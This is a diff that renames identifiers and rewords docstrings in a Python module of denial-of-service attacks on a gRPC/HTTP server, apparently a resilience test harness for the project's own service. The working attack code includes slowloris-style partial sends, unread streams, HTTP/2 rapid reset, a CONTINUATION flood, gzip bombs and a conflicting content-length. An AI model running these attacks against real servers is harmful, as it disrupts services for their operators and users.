@@ -1,4 +1,4 @@
-"""Hostile connections: what a program can do to a server by how it sends and reads, whatever it sends."""
+"""Hostile connections: attacks by the way in which a client sends and reads."""
 
 from __future__ import annotations
 
@@ -19,29 +19,28 @@ END_STREAM, END_HEADERS, ACK = 1, 4, 1
 FRAME = 16 * 1024
 
 
-# What is held to the end.
-_KEPT: list[object] = []
+# References to connections, which would be closed by garbage collection.
+_OPEN_CONNECTIONS: list[object] = []
 
 
 class Streams:
-    """A connection of HTTP/2 whose streams are filled and never read: of what comes, only room for more is heeded."""
+    """An HTTP/2 connection that sends and never reads answers. Of received frames, only flow control has an effect."""
 
     def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, window: int) -> None:
         self._reader = reader
         self._writer = writer
-        self._rooms: Counter[int] = Counter({0: 65_535})
+        self._windows: Counter[int] = Counter({0: 65_535})
         self._initial = 65_535
-        self._more = asyncio.Event()
+        self._window_changed = asyncio.Event()
         self._next = 1
         self.ended = False
         writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
         self._listening = asyncio.create_task(self._listen())
-        # What nobody refers to would be closed.
-        _KEPT.append(self)
+        _OPEN_CONNECTIONS.append(self)
 
     @classmethod
     async def open(cls, address: str, window: int = 0) -> Streams:
-        """Connect; each stream lets the server send so many bytes."""
+        """Connect, with so many bytes as the window of each stream."""
         host, _, port = address.rpartition(":")
         return cls(*await asyncio.open_connection(host.strip("[]"), int(port)), window)
 
@@ -52,47 +51,47 @@ class Streams:
                 body = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
                 kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
                 if kind == WINDOW_UPDATE:
-                    self._rooms[stream] += int.from_bytes(body, "big")
+                    self._windows[stream] += int.from_bytes(body, "big")
                 elif kind == SETTINGS and not flags & ACK:
                     self._writer.write(frame(SETTINGS, ACK, 0, b""))
                     for at in range(0, len(body), 6):
                         name, value = struct.unpack(">HI", body[at : at + 6])
                         self._initial = value if name == 4 else self._initial
-                self._more.set()
+                self._window_changed.set()
         self.ended = True
-        self._more.set()
+        self._window_changed.set()
 
     def begin(self, path: str, *more: tuple[str, str]) -> int:
-        """Begin a call, and return its stream."""
+        """Start a call, and return its stream."""
         stream, self._next = self._next, self._next + 2
-        self._rooms[stream] = 0
+        self._windows[stream] = 0
         self._writer.write(frame(HEADERS, END_HEADERS, stream, headers(path, *more)))
         return stream
 
     def reset(self, stream: int) -> None:
-        """Give up a call."""
+        """Reset the stream of a call."""
         self._writer.write(frame(RESET, 0, stream, struct.pack(">I", 8)))
 
     def close(self) -> None:
-        """End the connection."""
+        """Close the connection."""
         self._writer.close()
 
     def write(self, data: bytes) -> None:
-        """Write bytes as they are."""
+        """Write raw bytes."""
         self._writer.write(data)
 
     async def send(self, stream: int, data: bytes, *, end: bool) -> None:
-        """Send data as there is room for it, until all is sent or the connection is ended."""
+        """Send data as flow control allows, until all is sent or the connection ends."""
         while data and not self.ended:
-            room = min(self._rooms[0], self._initial + self._rooms[stream], FRAME, len(data))
+            room = min(self._windows[0], self._initial + self._windows[stream], FRAME, len(data))
             if room <= 0:
-                self._more.clear()
-                await self._more.wait()
+                self._window_changed.clear()
+                await self._window_changed.wait()
                 continue
             piece, data = data[:room], data[room:]
             self._writer.write(frame(DATA, END_STREAM if end and not data else 0, stream, piece))
-            self._rooms[0] -= room
-            self._rooms[stream] -= room
+            self._windows[0] -= room
+            self._windows[stream] -= room
             await self._writer.drain()
 
     async def call(self, path: str, message: bytes, *more: tuple[str, str]) -> None:
@@ -100,7 +99,7 @@ class Streams:
         await self.send(self.begin(path, *more), grpc_message(message), end=True)
 
     async def drain(self) -> None:
-        """Wait until the server takes what is written."""
+        """Wait until the server has received enough to write more."""
         await self._writer.drain()
 
 
@@ -110,10 +109,10 @@ def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
 
 
 def headers(path: str, *more: tuple[str, str]) -> bytes:
-    """Return the headers of a call, none of them compressed."""
+    """Return the headers of a call without compression."""
     fixed = ((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"))
-    said = (*fixed, ("content-type", "application/grpc"), ("te", "trailers"), *more)
-    return b"".join(b"\0" + _text(name) + _text(value) for name, value in said)
+    lines = (*fixed, ("content-type", "application/grpc"), ("te", "trailers"), *more)
+    return b"".join(b"\0" + _text(name) + _text(value) for name, value in lines)
 
 
 def _text(text: str) -> bytes:
@@ -128,19 +127,19 @@ def _text(text: str) -> bytes:
 
 
 def grpc_message(data: bytes, *, compressed: bool = False) -> bytes:
-    """Return a message with its length before it."""
+    """Return a message with its gRPC prefix."""
     return bytes((compressed,)) + len(data).to_bytes(4, "big") + data
 
 
 class Target:
-    """The ports of the server that is attacked."""
+    """The addresses of the attacked server."""
 
     def __init__(self, grpc: str, http: str) -> None:
         self.grpc = grpc
         self.http = http
 
     async def raw(self, address: str, data: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
-        """Connect, and write."""
+        """Connect to an address, and write bytes."""
         host, _, port = address.rpartition(":")
         reader, writer = await asyncio.open_connection(host, int(port), limit=4096)
         writer.write(data)
@@ -148,18 +147,18 @@ class Target:
 
 
 async def half_messages(target: Target) -> str:
-    """200 calls, each with a message of 4 MB of which the last byte never comes."""
+    """Start 200 calls, each with a message of 4 MB without its last byte."""
     message = grpc_message(b"x" * LARGE)[:-1]
 
     async def one() -> None:
         streams = await Streams.open(target.grpc)
         await streams.send(streams.begin(f"{MODELS}/CreateModelVersion"), message, end=False)
 
-    return await _many(200, one)
+    return await _repeat(200, one)
 
 
 async def unread_lists(target: Target) -> str:
-    """750 lists over 150 connections, of which nothing is read."""
+    """Start 750 lists on 150 connections, and read nothing."""
     request = model_registry_pb2.ListModelVersionsRequest(parent=f"{PROJECT}/models/large", page_size=1000)
 
     async def one() -> None:
@@ -167,17 +166,17 @@ async def unread_lists(target: Target) -> str:
         for _ in range(5):
             await streams.call(f"{MODELS}/ListModelVersions", request.SerializeToString())
 
-    return await _many(150, one)
+    return await _repeat(150, one)
 
 
 async def unread_watches(target: Target) -> str:
-    """200 watches of the whole log, of which nothing is read."""
+    """Start 200 watches of the whole log, and read nothing."""
     request = event_log_pb2.WatchRequest(parent=PROJECT, after_revision=0)
-    return await _many(200, lambda: _unread(target, f"{LOG}/Watch", request.SerializeToString()))
+    return await _repeat(200, lambda: _unread(target, f"{LOG}/Watch", request.SerializeToString()))
 
 
 async def idle_watches(target: Target) -> str:
-    """4,000 watches over 20 connections, of which nothing is read."""
+    """Start 4,000 watches on 20 connections, and read nothing."""
     request = event_log_pb2.WatchRequest(parent=PROJECT)
 
     async def one() -> None:
@@ -185,13 +184,13 @@ async def idle_watches(target: Target) -> str:
         for _ in range(200):
             await streams.call(f"{LOG}/Watch", request.SerializeToString())
 
-    return await _many(20, one)
+    return await _repeat(20, one)
 
 
 async def unread_exports(target: Target) -> str:
-    """50 exports, of which nothing is read."""
+    """Start 50 exports, and read nothing."""
     request = event_log_pb2.ExportRequest(parent=PROJECT)
-    return await _many(50, lambda: _unread(target, f"{LOG}/Export", request.SerializeToString()))
+    return await _repeat(50, lambda: _unread(target, f"{LOG}/Export", request.SerializeToString()))
 
 
 async def _unread(target: Target, path: str, message: bytes) -> None:
@@ -199,7 +198,7 @@ async def _unread(target: Target, path: str, message: bytes) -> None:
 
 
 async def half_posts(target: Target) -> str:
-    """300 bodies of 4 MB over HTTP, of which the last byte never comes."""
+    """Send 300 bodies of 4 MB over HTTP without their last byte."""
     head = f"POST {MODELS}/CreateModel HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
     data = f"{head}content-length: {LARGE + 1}\r\n\r\n".encode() + b" " * LARGE
 
@@ -207,11 +206,11 @@ async def half_posts(target: Target) -> str:
         _, writer = await target.raw(target.http, data)
         await writer.drain()
 
-    return await _many(300, one)
+    return await _repeat(300, one)
 
 
 async def false_length(target: Target) -> str:
-    """Bodies in chunks without end, each beside a length of 2."""
+    """Send endless chunked bodies, each with a content-length of 2."""
     head = f"POST {MODELS}/CreateModel HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
     begin = f"{head}content-length: 2\r\ntransfer-encoding: chunked\r\n\r\n".encode()
     chunk = b"10000\r\n" + b" " * 65_536 + b"\r\n"
@@ -222,40 +221,40 @@ async def false_length(target: Target) -> str:
             writer.write(chunk)
             await writer.drain()
 
-    return await _many(8, one)
+    return await _repeat(8, one)
 
 
 async def unread_pages(target: Target) -> str:
-    """300 connections that ask for large pages, one after the other, and read none."""
-    ask = b"GET /models/large.json?page_size=100 HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n"
+    """Request large pages repeatedly on 300 connections, and read none."""
+    request = b"GET /models/large.json?page_size=100 HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n"
 
     async def one() -> None:
-        await target.raw(target.http, ask * 50)
+        await target.raw(target.http, request * 50)
 
-    return await _many(300, one)
+    return await _repeat(300, one)
 
 
 async def unread_viewers(target: Target) -> str:
-    """1,100 open pages that never read what they are told."""
-    ask = b"GET /live HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n"
+    """Open 1,100 streams of the dashboard, and read nothing."""
+    request = b"GET /live HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n"
 
     async def one() -> None:
-        await target.raw(target.http, ask)
+        await target.raw(target.http, request)
 
-    return await _many(1100, one)
+    return await _repeat(1100, one)
 
 
 async def idle_sockets(target: Target) -> str:
-    """700 connections to each port over which nothing comes, or half a head."""
+    """Open 700 connections to each port, and send nothing or half of a header."""
     halves = {target.grpc: (b"", b"PRI * HTTP/2.0\r\n"), target.http: (b"", b"GET / HTTP/1.1\r\nho")}
     for address, beginnings in halves.items():
         for beginning in beginnings:
-            await _many(350, lambda address=address, said=beginning: target.raw(address, said))  # type: ignore[misc]  # a lambda - with its values
+            await _repeat(350, lambda address=address, lines=beginning: target.raw(address, lines))  # type: ignore[misc]  # a lambda - with its values
     return "1,400 connected"
 
 
 async def rapid_reset(target: Target) -> str:
-    """Calls that are given up as soon as they have begun."""
+    """Start calls and reset them immediately."""
     streams, begun = await Streams.open(target.grpc), 0
     while not streams.ended and begun < 20_000:
         for _ in range(20):
@@ -264,11 +263,11 @@ async def rapid_reset(target: Target) -> str:
         with suppress(ConnectionError):
             await streams.drain()
         await asyncio.sleep(0)
-    return f"{begun} begun"
+    return f"{begun} started"
 
 
 async def gzip_bombs(target: Target) -> str:
-    """Messages of 100 kB that are 100 MB when they are decompressed."""
+    """Send messages of 100 kB that decompress to 100 MB."""
     bomb = grpc_message(gzip.compress(b"\0" * 100_000_000, 9), compressed=True)
 
     async def one() -> None:
@@ -277,11 +276,11 @@ async def gzip_bombs(target: Target) -> str:
             stream = streams.begin(f"{MODELS}/CreateModel", ("grpc-encoding", "gzip"))
             await streams.send(stream, bomb, end=True)
 
-    return await _many(8, one)
+    return await _repeat(8, one)
 
 
 async def endless_headers(target: Target) -> str:
-    """Headers that go on and on in further frames."""
+    """Send headers in an endless series of CONTINUATION frames."""
 
     async def one() -> None:
         streams = await Streams.open(target.grpc)
@@ -293,22 +292,22 @@ async def endless_headers(target: Target) -> str:
             streams.write(frame(CONTINUATION, 0, 1, more))
             await streams.drain()
 
-    return await _many(4, one)
+    return await _repeat(4, one)
 
 
-async def _many(count: int, one: Callable[[], Awaitable[object]]) -> str:
-    """Do it so many times at once, 50 of them beginning together."""
+async def _repeat(count: int, one: Callable[[], Awaitable[object]]) -> str:
+    """Run an attack so many times, 50 of them concurrently, and return the counts of outcomes."""
     gate, outcomes = asyncio.Semaphore(50), Counter[str]()
 
     async def attempt() -> None:
         async with gate:
             try:
-                # What the server does not take any more is held all the same.
+                # Connections that the server no longer reads from stay open too.
                 async with asyncio.timeout(2):
-                    _KEPT.append(await one())
+                    _OPEN_CONNECTIONS.append(await one())
                 outcomes["sent"] += 1
             except TimeoutError:
-                outcomes["held up"] += 1
+                outcomes["blocked"] += 1
             except OSError as error:
                 outcomes[type(error).__name__] += 1
 
